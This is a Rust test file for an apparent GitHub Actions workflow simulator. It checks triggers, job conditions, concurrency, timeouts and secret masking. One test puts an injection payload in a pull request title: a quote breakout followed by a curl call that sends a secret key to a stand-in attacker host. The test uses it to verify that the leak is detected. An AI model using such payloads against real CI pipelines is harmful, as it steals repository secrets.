//! One event each: what runs, what is skipped, what goes live.

mod images;
mod local;
mod matrices;
mod road;
mod scripts;
mod tools;

use std::collections::BTreeSet;
use std::fmt::Write;

use proptest::prelude::*;

use super::*;
use crate::finding::Severity;
use crate::workflow::read;

fn commit(letter: char) -> Commit {
    Commit {
        sha: String::from(letter).repeat(40),
        ..Commit::default()
    }
}

fn push(branch: &str) -> Event {
    let branch = branch.to_owned();
    Event::new(Kind::Push { branch }, commit('a'))
}

fn request(fork: bool) -> Event {
    let kind = Kind::PullRequest {
        base: "main".to_owned(),
        head: "topic".to_owned(),
        fork,
        action: "opened".to_owned(),
        title: "Fix".to_owned(),
    };
    let mut event = Event::new(kind, commit('f'));
    event.commit.foreign = fork;
    event
}

fn at(at_ms: u64, what: What) -> Happening {
    Happening { at_ms, what }
}

fn play(text: &str, settings: &Settings, happenings: &[Happening]) -> Outcome {
    let (workflow, findings) = read(text);
    let errors: Vec<_> = findings
        .iter()
        .filter(|finding| finding.severity == Severity::Error)
        .map(ToString::to_string)
        .collect();
    assert!(errors.is_empty(), "{errors:?} in\n{text}");
    Plan::new(&workflow).run(settings, happenings)
}

fn once(text: &str, event: Event) -> Outcome {
    play(text, &Settings::default(), &[at(0, What::Event(event))])
}

/// `job=conclusion` for each, in the order of their names.
fn told(outcome: &Outcome) -> String {
    let jobs = outcome.runs.iter().flat_map(|run| &run.jobs);
    let told: BTreeSet<String> = jobs
        .map(|job| format!("{}={}", job.label, job.conclusion.as_str()))
        .collect();
    told.into_iter().collect::<Vec<_>>().join(" ")
}

fn jobs(on: &str, jobs: &str) -> String {
    let mut text = format!("on: {on}\njobs:\n");
    for job in jobs.split(';').map(str::trim).filter(|job| !job.is_empty()) {
        let (id, rest) = job.split_once(':').unwrap();
        write!(text, "  {}:\n    runs-on: ubuntu-latest\n", id.trim()).unwrap();
        let mut run = "true";
        for setting in rest
            .split(" | ")
            .map(str::trim)
            .filter(|setting| !setting.is_empty())
        {
            match setting.strip_prefix("run ") {
                Some(script) => run = script,
                None => writeln!(text, "    {setting}").unwrap(),
            }
        }
        write!(text, "    steps:\n      - run: {run}\n").unwrap();
    }
    text
}

#[test]
fn filters_decide_what_starts_a_run() {
    let mut docs = push("main");
    docs.changed = Some(vec!["docs/a.md".to_owned()]);
    let mut code = push("main");
    code.changed = Some(vec!["docs/a.md".to_owned(), "app.py".to_owned()]);
    let mut skipped = push("main");
    skipped.commit.message = "Typo [skip ci]".to_owned();
    let tag = || {
        Event::new(
            Kind::Tag {
                tag: "v1.4.0".to_owned(),
            },
            commit('a'),
        )
    };
    let closed = || {
        let mut event = request(false);
        if let Kind::PullRequest { action, .. } = &mut event.kind {
            "closed".clone_into(action);
        }
        event
    };
    let clock = |cron: &str| {
        let cron = Some(cron.to_owned());
        Event::new(Kind::Schedule { cron }, commit('a'))
    };
    for (on, event, starts) in [
        ("push", push("main"), true),
        ("[pull_request]", push("main"), false),
        ("{push: {branches: [main]}}", push("topic"), false),
        (
            "{push: {branches: ['release/**', '!release/old']}}",
            push("release/old"),
            false,
        ),
        ("{push: {branches-ignore: [wip]}}", push("main"), true),
        ("{push: {branches: [main]}}", tag(), false),
        ("{push: {tags: ['v*']}}", tag(), true),
        ("{push: {tags: ['v*']}}", push("main"), false),
        (
            "{push: {branches: [main], tags: ['v*']}}",
            push("main"),
            true,
        ),
        ("{push: {tags: ['v*'], paths: [nothing]}}", tag(), true),
        ("{push: {paths-ignore: ['docs/**']}}", docs.clone(), false),
        ("{push: {paths-ignore: ['docs/**']}}", code.clone(), true),
        ("{push: {paths: ['**.py']}}", docs, false),
        ("{push: {branches: [topic], paths: ['**.py']}}", code, false),
        ("push", skipped, false),
        ("pull_request", request(true), true),
        ("pull_request_target", request(true), true),
        ("{pull_request: {branches: [topic]}}", request(false), false),
        ("pull_request", closed(), false),
        ("{pull_request: {types: [closed]}}", closed(), true),
        (
            "{schedule: [{cron: '0 6 * * 1'}]}",
            clock("0 6 * * 1"),
            true,
        ),
        (
            "{schedule: [{cron: '0 6 * * 1'}]}",
            clock("0 7 * * 1"),
            false,
        ),
    ] {
        let text = jobs(on, "a:");
        let outcome = once(&text, event);
        assert_eq!(!outcome.runs.is_empty(), starts, "{on}");
    }
}

#[test]
fn a_skipped_job_says_what_it_was_skipped_for() {
    let page = "github.event_name == 'push'";
    for (text, reason) in [
        ("a: run false; b: needs: a".to_owned(), Reason::Needs),
        (
            format!("a: run false; b: needs: a | if: {page}"),
            Reason::Needs,
        ),
        (
            "a: if: false; b: needs: a | if: true".to_owned(),
            Reason::Needs,
        ),
        (
            "a: ; b: needs: a | if: github.event_name == 'schedule'".to_owned(),
            Reason::Condition,
        ),
        (
            "a: ; b: needs: a | if: failure()".to_owned(),
            Reason::Condition,
        ),
    ] {
        let outcome = once(&jobs("push", &text), push("main"));
        let mut all = outcome.runs[0].jobs.iter();
        let skipped = all.find(|job| job.label == "b").unwrap();
        assert_eq!(skipped.reason, reason, "{text}");
    }
}

#[test]
fn needs_and_conditions_decide_what_runs() {
    for (text, expected) in [
        ("a: ; b: needs: a", "a=success b=success"),
        (
            "a: run false; b: needs: a; c:",
            "a=failure b=skipped c=success",
        ),
        (
            "a: run false; b: needs: a | if: always()",
            "a=failure b=success",
        ),
        (
            "a: run false; b: needs: a | if: failure(); c: if: failure()",
            "a=failure b=success c=skipped",
        ),
        (
            "a: run false; b: needs: a; c: needs: b | if: failure()",
            "a=failure b=skipped c=success",
        ),
        // What follows a skipped job is skipped, even behind one that ran all the same.
        (
            "a: if: false; b: needs: a | if: always(); c: needs: b",
            "a=skipped b=success c=skipped",
        ),
        (
            "a: if: false; b: needs: a | if: always(); c: needs: b | if: needs.b.result == 'success' && !cancelled()",
            "a=skipped b=success c=success",
        ),
        (
            "a: if: github.ref == 'refs/heads/main'; b: if: github.event_name == 'pull_request'",
            "a=success b=skipped",
        ),
        (
            "a: run false | continue-on-error: true; b: needs: a",
            "a=failure b=success",
        ),
        (
            "a: run false || true; b: run exit 3; c: run false && true",
            "a=success b=failure c=failure",
        ),
        ("a: if: success() || github.nothing.here", "a=success"),
    ] {
        let text = jobs("push", text);
        assert_eq!(told(&once(&text, push("main"))), expected, "{text}");
    }
}

#[test]
fn a_pipe_hides_a_failure() {
    let text = jobs("push", "a:").replace("run: true", "run: 'false | tee log'");
    assert_eq!(told(&once(&text, push("main"))), "a=success");
}

const STEPS: &str = "
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    outputs:
      tag: ${{ steps.make.outputs.tag }}
    steps:
      - id: make
        run: echo \"tag=v${{ 1 == 1 }}-$PART\" >> \"$GITHUB_OUTPUT\"
        env:
          PART: x
      - id: bad
        run: 'false'
        continue-on-error: true
      - if: steps.bad.outcome == 'failure' && steps.bad.conclusion == 'success'
        run: 'true'
      - if: failure()
        run: 'true'
  b:
    needs: a
    if: needs.a.outputs.tag == 'vtrue-x'
    runs-on: ubuntu-latest
    steps:
      - run: exit 2
      - run: 'true'
      - if: always()
        run: 'true'
      - if: cancelled()
        run: 'true'
";

#[test]
fn steps_see_what_steps_before_them_did() {
    let outcome = once(STEPS, push("main"));
    let steps = |job: usize| -> Vec<&str> {
        let steps = &outcome.runs[0].jobs[job].steps;
        steps.iter().map(|step| step.conclusion.as_str()).collect()
    };
    assert_eq!(steps(0), ["success", "success", "success", "skipped"]);
    assert_eq!(steps(1), ["failure", "skipped", "success", "skipped"]);
    assert_eq!(told(&outcome), "a=success b=failure");
    let (workflow, _) = read(STEPS);
    let log = log::lines(&Plan::new(&workflow), &outcome.runs[0].jobs[1], &[]);
    let texts: Vec<&str> = log.iter().map(|line| line.text.as_str()).collect();
    assert_eq!(texts[0], "##[group]Run exit 2");
    assert!(texts.contains(&"##[error]Process completed with exit code 2."));
}

#[test]
fn a_strangers_title_can_become_a_command() {
    let text = jobs("pull_request_target", "a:").replace(
        "run: true",
        "run: echo \"${{ github.event.pull_request.title }}\"\n        env:\n          KEY: ${{ secrets.KEY }}",
    );
    let mut settings = Settings::default();
    settings
        .secrets
        .insert("KEY".to_owned(), "s3cr3t".to_owned());
    let titled = |words: &str| {
        let mut event = request(true);
        if let Kind::PullRequest { title, .. } = &mut event.kind {
            words.clone_into(title);
        }
        play(&text, &settings, &[at(0, What::Event(event))])
    };
    let evil = titled("x\"; curl https://evil.example?k=$KEY #");
    assert!(evil.runs[0].injected);
    assert!(evil.runs[0].leaks.iter().any(|leak| leak.secret == "KEY"));
    assert!(!titled("Mend the page").runs[0].injected);
    let by_variable = text
        .replace("${{ github.event.pull_request.title }}", "$TITLE")
        .replace(
            "env:\n",
            "env:\n          TITLE: ${{ github.event.pull_request.title }}\n",
        );
    let mut event = request(true);
    if let Kind::PullRequest { title, .. } = &mut event.kind {
        "x\"; curl https://evil.example?k=$KEY #".clone_into(title);
    }
    let safe = play(&by_variable, &settings, &[at(0, What::Event(event))]);
    assert!(!safe.runs[0].injected);
}

#[test]
fn a_concurrency_group_lets_one_run_and_one_wait() {
    let text = |cancel: bool| {
        jobs("push", "a: run sleep 60").replace(
            "jobs:",
            &format!("concurrency:\n  group: deploy-${{{{ github.ref }}}}\n  cancel-in-progress: {cancel}\njobs:"),
        )
    };
    let events: Vec<Happening> = [0, 10_000, 20_000]
        .map(|ms| at(ms, What::Event(push("main"))))
        .into();
    let conclusions = |outcome: &Outcome| -> Vec<&str> {
        outcome
            .runs
            .iter()
            .map(|run| run.conclusion.as_str())
            .collect()
    };
    let waits = play(&text(false), &Settings::default(), &events);
    assert_eq!(conclusions(&waits), ["success", "cancelled", "success"]);
    assert_eq!(waits.runs[2].jobs[0].start_ms, 62_000);
    let cancels = play(&text(true), &Settings::default(), &events);
    assert_eq!(conclusions(&cancels), ["cancelled", "cancelled", "success"]);
    assert_eq!(cancels.runs[2].jobs[0].start_ms, 20_000);
    assert_eq!(cancels.runs[0].jobs[0].end_ms, 10_000);
    // Groups of jobs work the same way; another branch is another group.
    let job = jobs("push", "a: run sleep 60 | concurrency: prod");
    let jobs = play(&job, &Settings::default(), &events);
    assert_eq!(conclusions(&jobs), ["success", "cancelled", "success"]);
    let other = [events[0].clone(), at(5_000, What::Event(push("topic")))];
    let apart = play(&text(false), &Settings::default(), &other);
    assert_eq!(apart.runs[1].jobs[0].start_ms, 5_000);
}

#[test]
fn time_limits_end_steps_and_jobs() {
    let text = jobs("push", "a: run sleep 120 | timeout-minutes: 1; b: run sleep 120").replace(
        "  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: sleep 120",
        "  b:\n    runs-on: ubuntu-latest\n    steps:\n      - timeout-minutes: 1\n        run: sleep 120",
    );
    let outcome = once(&text, push("main"));
    assert_eq!(told(&outcome), "a=cancelled b=failure");
    assert_eq!(outcome.runs[0].jobs[0].reason, Reason::Timeout);
    assert_eq!(outcome.runs[0].jobs[0].end_ms, 60_000);
}

#[test]
fn a_log_masks_secrets_and_shows_what_was_pasted() {
    let text = jobs("pull_request", "a:").replace(
        "run: true",
        "run: docker login ghcr.io -u me -p ${{ secrets.KEY }}\n        env:\n          PASSWORD: hunter2\n          HIDDEN: ${{ secrets.KEY }}",
    );
    let mut settings = Settings::default();
    settings
        .secrets
        .insert("KEY".to_owned(), "s3cr3t".to_owned());
    let outcome = play(&text, &settings, &[at(0, What::Event(request(false)))]);
    let (workflow, _) = read(&text);
    let plan = Plan::new(&workflow);
    let lines = log::lines(&plan, &outcome.runs[0].jobs[0], &log::masked(&settings));
    let log: Vec<String> = lines.into_iter().map(|line| line.text).collect();
    let log = log.join("\n");
    assert!(log.contains("docker login ghcr.io -u me -p ***"), "{log}");
    assert!(log.contains("  PASSWORD: hunter2\n  HIDDEN: ***"), "{log}");
    assert!(!log.contains("s3cr3t"), "{log}");
    assert!(log.ends_with("Login Succeeded!"), "{log}");
}

#[test]
fn names_of_images_can_be_made_by_the_action_for_it() {
    let text = road::ROAD.replace(
        "      - uses: docker/build-push-action@v6",
        "      - id: meta\n        uses: docker/metadata-action@v5\n        with:\n          images: ghcr.io/octo-org/app\n          tags: |\n            type=ref,event=branch\n            type=sha\n      - uses: docker/build-push-action@v6",
    );
    let text = text.replace(
        "tags: ghcr.io/octo-org/app:${{ github.sha }}",
        "tags: ${{ steps.meta.outputs.tags }}",
    );
    let outcome = once(&text, push("main"));
    let tags: Vec<&str> = outcome
        .pushes
        .iter()
        .map(|push| push.tag.as_str())
        .collect();
    assert_eq!(
        tags,
        [
            "ghcr.io/octo-org/app:main",
            "ghcr.io/octo-org/app:sha-aaaaaaa"
        ]
    );
}

#[test]
fn unknown_tools_succeed_and_are_named() {
    let text = jobs("push", "a: run frobnicate --all")
        .replace("    steps:\n", "    steps:\n      - uses: acme/deploy@v1\n");
    let outcome = once(&text, push("main"));
    assert_eq!(told(&outcome), "a=success");
    let codes: Vec<&str> = outcome
        .findings
        .iter()
        .map(|finding| finding.code)
        .collect();
    assert_eq!(
        codes,
        ["workflow-action-unknown", "workflow-command-unknown"]
    );
}

#[test]
fn jobs_in_a_circle_or_in_vain_end() {
    let text = jobs("push", "a: needs: b; b: needs: a; c: needs: nobody; d:");
    let (workflow, _) = read(&text);
    let outcome =
        Plan::new(&workflow).run(&Settings::default(), &[at(0, What::Event(push("main")))]);
    assert!(told(&outcome).contains("c=skipped d=success"));
}

/// Random workflows, right and wrong.
fn workflows() -> impl Strategy<Value = String> {
    let lines = prop::sample::select(vec![
        "needs: a",
        "needs: [a, b]",
        "if: always()",
        "if: failure()",
        "if: needs.a.result == 'x'",
        "if: ${{ }}",
        "environment: production",
        "concurrency: x",
        "continue-on-error: true",
        "timeout-minutes: 0",
        "timeout-minutes: ${{ 1 }}",
        "strategy: {matrix: {v: [1, 2]}}",
        "strategy: {max-parallel: 1, matrix: {v: '${{ fromJSON(1) }}'}}",
        "uses: ./x.yml",
        "permissions: {}",
        "outputs: {x: '${{ matrix.v }}'}",
        "env: {A: '${{ env.A }}'}",
    ]);
    let steps = prop::sample::select(vec![
        "run: exit 1",
        "uses: actions/checkout@v4",
        "run: docker build -t $A . && docker push $A",
        "run: 'echo \"x=1\" >> $GITHUB_OUTPUT'",
        "uses: docker/build-push-action@v6",
        "run: \"'\"",
        "run: 'kubectl rollout undo x || curl -f y; sleep 9m'",
        "uses: a/b@c",
        "id: x",
        "run: '$(('",
        "uses: actions/cache@v4",
        "run: gcloud run deploy",
        "run: '${{ github.event }}'",
    ]);
    let job = (
        prop::collection::vec(lines, 0..4),
        prop::collection::vec(steps, 0..4),
    );
    prop::collection::vec(job, 1..6).prop_map(|jobs| {
        let mut text = "on: [push, pull_request, workflow_dispatch]\njobs:\n".to_owned();
        for (place, (lines, steps)) in jobs.into_iter().enumerate() {
            let id = char::from(b'a' + u8::try_from(place).unwrap());
            write!(text, "  {id}:\n    runs-on: ubuntu-latest\n").unwrap();
            for line in lines {
                writeln!(text, "    {line}").unwrap();
            }
            text.push_str("    steps:\n");
            for step in steps {
                writeln!(text, "      - {step}").unwrap();
            }
        }
        text
    })
}

proptest! {
    #[test]
    fn every_workflow_comes_to_an_end(text in workflows(), fork in any::<bool>(), runners in 0_u32..3) {
        let (workflow, _) = read(&text);
        let settings = Settings { runners, ..Settings::default() };
        let happenings = [
            at(0, What::Event(push("main"))),
            at(5_000, What::Event(request(fork))),
            at(6_000, What::LoseRunner(0, "a".to_owned())),
            at(9_000, What::Cancel(1)),
            at(90_000_000, What::RerunFailed(0)),
        ];
        let outcome = Plan::new(&workflow).run(&settings, &happenings);
        for job in outcome.runs.iter().flat_map(|run| &run.jobs) {
            prop_assert!(job.queued_ms <= job.end_ms && job.start_ms <= job.end_ms);
            let _ = log::lines(&Plan::new(&workflow), job, &["s"]);
        }
        prop_assert_eq!(&Plan::new(&workflow).run(&settings, &happenings), &outcome);
    }
}
